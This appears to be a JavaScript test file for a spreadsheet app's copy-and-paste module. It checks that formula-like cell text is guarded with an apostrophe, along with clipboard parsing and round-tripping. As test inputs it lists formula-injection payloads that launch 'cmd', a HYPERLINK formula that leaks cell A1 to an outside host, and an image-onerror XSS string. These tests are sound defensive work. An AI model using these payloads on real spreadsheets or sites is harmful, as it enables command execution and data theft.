import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import {
  guarded,
  parseTable,
  readCopied,
  spread,
  unguarded,
  writeCopied,
  writeTable,
} from "../../../src/livesheet/static/livesheet/grid/pasting.js";
import { parseMarked } from "../../../src/livesheet/static/livesheet/values/foreign.js";
import { column } from "../fakes.js";

const FORMULAS = [
  "=1+1",
  '=HYPERLINK("https://elsewhere.example/?"&A1)',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\ttext",
  "\rtext",
  "  =1+1",
  "\u00a0=1+1",
  "＝1+1",
  "＋A1",
  "－A1",
  "＠A1",
  "-A1",
  "- a list",
  "'=1+1",
  "''=1+1",
  "-1-2",
];
const TEXTS = [
  "",
  "text",
  "a=b",
  "1+1",
  "'quoted",
  "''",
  "a\n=1",
  "-5",
  "+43 1 234 56 78",
  "-1,234.50",
];
const NUMBERS = [
  "-5",
  "+5",
  "-1.234,5",
  "-1 234,50",
  "-1’234.5",
  "-0.000001",
  "-1e-7",
  "-12.5%",
  "-",
  "-3:00:00",
];

test("what a spreadsheet would calculate gets an apostrophe, and loses it on the way back", () => {
  for (const text of FORMULAS) {
    assert.equal(guarded(text), `'${text}`);
    assert.equal(unguarded(`'${text}`), text);
  }
});

test("texts and numbers stay as they are", () => {
  for (const text of [...TEXTS, ...NUMBERS]) {
    assert.equal(guarded(text), text);
    assert.equal(unguarded(text), text);
  }
});

test("whatever it is, it comes back, and does not begin as a formula does", () => {
  const sign = fc.constantFrom("'", "=", "-", "+", "@", "\t", "\r", " ", "1", ".", "e", "a", "＝");
  fc.assert(
    fc.property(fc.string({ unit: sign, maxLength: 8 }), (text) => {
      assert.equal(unguarded(guarded(text)), text);
      assert.ok(!/^[=@\t\r＝]|^[-+][^\d]*[a=@]/.test(guarded(text)), guarded(text));
    }),
    { numRuns: 2000 },
  );
});

test("sixty thousand apostrophes cost no time", () => {
  const start = performance.now();
  guarded(`${"'".repeat(60_000)}=x`);
  unguarded(`${"'".repeat(60_000)}${" ".repeat(60_000)}x`);
  guarded(`-${"1 ".repeat(60_000)}x`);
  assert.ok(performance.now() - start < 10_000);
});

/** A grid of one row, and what a copy of it puts on the clipboard. */
function copied(cells, exactCopies = false) {
  const columns = cells.map(([type], index) => column(`c${index}`, type));
  const values = cells.map(([, value], index) => [`c${index}`, value]);
  const record = { $pk: "1", ...Object.fromEntries(values) };
  const data = new Map();
  const clipboard = {
    setData: (kind, text) => data.set(kind, text),
    getData: (kind) => data.get(kind),
  };
  const store = {
    hello: { exact_copies: exactCopies },
    copyText: (_column, value) => String(value),
    shown: (_pk, name) => record[name],
  };
  const area = { row: 0, col: 0, endRow: 0, endCol: cells.length - 1 };
  writeCopied({ columns, records: [record] }, store, area, clipboard);
  return { data, clipboard };
}

const all = [...FORMULAS, ...TEXTS];

test("nothing that leaves begins as a formula does, as text or as a table", () => {
  const { data, clipboard } = copied([...all.map((text) => ["text", text]), ["integer", -5]]);
  const [row] = parseMarked(data.get("text/html"));
  for (const { text } of row.slice(0, -1))
    assert.doesNotMatch(text, /^\s*[=@＝]|^\s*[-+][^\d]*[A-Za-z]/);
  assert.equal(row.at(-1).text, "-5");
  assert.ok(data.get("text/plain").endsWith("\t-5"));
  assert.deepEqual(
    readCopied(clipboard)[0].map(({ text, own }) => [text, own.value]),
    [...all.map((text) => [text, text]), ["-5", -5]],
  );
});

test("a program that keeps the text alone brings the same back", () => {
  const { data } = copied(all.map((text) => ["text", text]));
  data.delete("text/html");
  const back = readCopied({ getData: (kind) => data.get(kind) });
  const lines = (text) => text.replace(/\r\n?/g, "\n");
  assert.deepEqual(
    back[0].map(({ text }) => text),
    all.map(lines),
  );
});

test("what was changed elsewhere is what is seen there", () => {
  const { data } = copied([["text", "=1+1"]]);
  const html = data.get("text/html").replace(">'=1+1<", ">'=2+2<");
  const [[cell]] = readCopied({ getData: (kind) => (kind === "text/html" ? html : "") });
  assert.equal(cell.own, undefined);
  assert.equal(cell.text, "=2+2");
});

test("a sheet may want its copies exact", () => {
  const { data, clipboard } = copied([...all.map((text) => ["text", text])], true);
  assert.ok(data.get("text/plain").startsWith("=1+1\t"));
  assert.ok(data.get("text/html").includes(">=1+1<"));
  assert.deepEqual(
    readCopied(clipboard)[0].map(({ text }) => text),
    all,
  );
});

test("a line break starts no cell of its own", () => {
  const { data } = copied([["text", "a\n=1+1"]]);
  assert.equal(data.get("text/plain"), '"a\n=1+1"');
  assert.ok(data.get("text/html").includes('a<br style="mso-data-placement:same-cell">=1+1<'));
});

test("tabs between cells, lines between rows", () => {
  assert.deepEqual(parseTable("a\tb\nc\td"), [
    ["a", "b"],
    ["c", "d"],
  ]);
});

test("the line break at the end is not a row; an empty cell is a cell", () => {
  assert.deepEqual(parseTable("a\r\n\tb\r\n"), [["a"], ["", "b"]]);
  assert.deepEqual(parseTable(""), [[""]]);
});

test("a quoted cell holds tabs, line breaks and quotes", () => {
  assert.deepEqual(parseTable('"a\tb\nc ""d"""\te'), [['a\tb\nc "d"', "e"]]);
});

test("a quote that is only a quote stays one", () => {
  assert.deepEqual(parseTable('"12\tx'), [['"12', "x"]]);
  assert.deepEqual(parseTable('"a" b\tc'), [['"a" b', "c"]]);
  assert.deepEqual(parseTable('19"\tc'), [['19"', "c"]]);
});

test("markup is text", () => {
  const evil = "<img src=x onerror=alert(1)>";
  assert.deepEqual(parseTable(evil), [[evil]]);
});

test("a block fills a selection that is a multiple of it", () => {
  assert.deepEqual(spread([["a"]], 2, 2, ""), [
    ["a", "a"],
    ["a", "a"],
  ]);
  assert.deepEqual(spread([["a", "b"]], 1, 4, ""), [["a", "b", "a", "b"]]);
  assert.deepEqual(spread([["a"], ["b"]], 3, 1, ""), [["a"], ["b"]]);
  assert.deepEqual(spread([["a", "b"], ["c"]], 1, 1, ""), [
    ["a", "b"],
    ["c", ""],
  ]);
});

test("what is written is read again, whatever it holds", () => {
  const table = [
    ["a", "", "two\nlines"],
    ["tab\there", '"quoted"', 'a "b" c'],
    ["", "", ""],
  ];
  assert.deepEqual(parseTable(writeTable(table)), table);
  for (const one of [[[""]], [["a"], [""]], [[" a "]]]) {
    assert.deepEqual(parseTable(writeTable(one)), one);
  }
});
